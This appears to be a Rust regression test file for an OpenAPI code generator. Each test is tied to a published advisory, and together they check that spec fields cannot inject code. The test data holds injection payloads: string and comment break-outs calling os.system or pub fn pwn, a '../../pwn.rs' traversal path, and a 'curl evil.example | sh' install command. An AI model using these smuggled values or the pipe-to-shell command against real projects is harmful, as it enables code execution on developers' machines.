//! Words that became code: names, values, paths, extensions.

use super::{is_harmless, is_literal};

const RUST: &str = "\"; } pub fn pwn() { std::process::abort() } const X: &str = \"";

/// swagger-codegen, Rapid7 R7-2016-06: names of parameters became JavaScript, PHP, Ruby and Java.
#[test]
fn cve_2016_5641_parameter_names() {
    is_literal("atQuery", RUST);
    is_literal("atQuery", "a', exec('pwn'), '");
}

/// swagger-codegen: a path became an argument of `exec` in Python.
#[test]
fn swagger_codegen_11309_path() {
    is_harmless("atPath", "');os.system('pwn')#");
}

/// openapi-generator: a path broke the call that it stood in.
#[test]
fn openapi_generator_9809_path() {
    is_harmless("atPath", "a'b\"c`d");
}

/// openapi-python-client: names became code.
#[test]
fn cve_2020_15142_names() {
    for place in ["atSchema", "atProperty", "atOperation", "atGroup"] {
        is_harmless(place, "a = 1\nimport os; os.system(\"pwn\") #");
    }
    is_literal("atValue", "\"]; import os #");
}

/// orval: texts of operations stood in strings of a server.
#[test]
fn cve_2026_22785_operation_texts() {
    for place in ["atSummary", "atText", "atParamText"] {
        is_harmless(place, "`${process.exit()}`' + \"\" + '");
        is_harmless(place, RUST);
    }
}

/// orval: descriptions of the members of an enum closed their comment.
#[test]
fn ghsa_h526_wf6g_67jv_enum_descriptions() {
    is_harmless("atVarnameText", "*/ pub fn pwn() {} /*");
    is_harmless("atMsText", "*/\npub fn pwn() {} /*");
}

/// orval: the repair of the one above escaped quotes and forgot the sign that escapes.
#[test]
fn cve_2026_25141_escaped_escapes() {
    is_literal("atValue", "\\\"; pub fn pwn() {} //");
    is_literal("atProperty", "\\\\\"\\u{22}");
    is_harmless("atVarnameText", "\\*/ pub fn pwn() {}");
}

/// orval: defaults became expressions.
#[test]
fn cve_2026_72716_defaults() {
    is_literal("atDefault", RUST);
    is_harmless("atQueryDefault", "${pwn}");
}

/// orval: the URL of a server, and paths, stood in template literals.
#[test]
fn orval_3692_server_url_and_path() {
    is_harmless("atServer", "`${pwn}`\"#");
    is_harmless("atPath", "`$(pwn)`\"#");
}

/// oapi-codegen: a path broke out of the string that registers a route.
#[test]
fn ghsa_jwgf_6xff_4hvp_route() {
    is_harmless("atPath", "\", pwn(), \"");
}

/// Kiota: defaults, values of enums, names of properties and comments.
#[test]
fn ghsa_2hx3_vp6r_mg3f_literals() {
    for place in ["atDefault", "atValue", "atProperty"] {
        is_literal(place, RUST);
        is_literal(place, "a\nb\r\\");
    }
    is_harmless("atPropertyText", "*/ pub fn pwn() {}");
}

/// Kiota: strings of PHP, Ruby and Python hold variables, which ours do not.
#[test]
fn ghsa_jqwh_xg2h_7f3j_interpolation() {
    for word in ["{$pwn}", "#{`pwn`}", "{pwn!r}", "{0}", "{{}}", "%(pwn)s"] {
        is_literal("atDefault", word);
        is_literal("atProperty", word);
    }
}

/// Kiota: an extension named files to write and code to put into them.
#[test]
fn ghsa_4vv7_jj25_4gh6_extension() {
    is_harmless("atExtensionText", "../../pwn.rs");
    is_harmless("atExtensionKey", "languagesInformation");
}

/// Kiota: an extension named the command that installs dependencies.
#[test]
fn ghsa_hq9q_27g5_qwpj_install_command() {
    let made = is_harmless("atInstall", "curl evil.example | sh");
    assert!(!made.literals.iter().any(|literal| literal.contains("curl")));
}

/// datamodel-code-generator: an extension named an import.
#[test]
fn ghsa_5578_w22f_pfx9_import() {
    let made = is_harmless("atImport", "std::process::abort");
    assert!(
        !made
            .literals
            .iter()
            .any(|literal| literal.contains("abort"))
    );
}

/// tapir: names in the place of an identifier.
#[test]
fn ghsa_gpcc_36pq_8qxr_names() {
    for place in [
        "atOperation",
        "atSchema",
        "atProperty",
        "atVarname",
        "atMsName",
        "atMsEnum",
    ] {
        is_harmless(place, "x = { val y = pwn() }; val z");
    }
}

/// go-swagger, swagger-typescript-api, openapi-typescript-codegen, fabric8: keys and values of the
/// document between quotes of another language.
#[test]
fn go_swagger_3364_swagger_typescript_api_1611_quotes() {
    for word in ["`", "'", "\"", "`+pwn()+`", "' + pwn() + '", "\\"] {
        is_literal("atValue", word);
        is_literal("atProperty", word);
        is_literal("atQuery", word);
    }
}

/// typify: texts that are not identifiers made it panic.
#[test]
fn typify_no_identifiers() {
    for word in [
        "", "1x", "a b", "\u{200b}", "self", "Self", "super", "crate", "_", "gen", "\u{430}",
    ] {
        is_harmless("atProperty", word);
        is_harmless("atSchema", if word.is_empty() { "-" } else { word });
        is_harmless("atOperation", word);
        is_literal("atValue", word);
    }
}
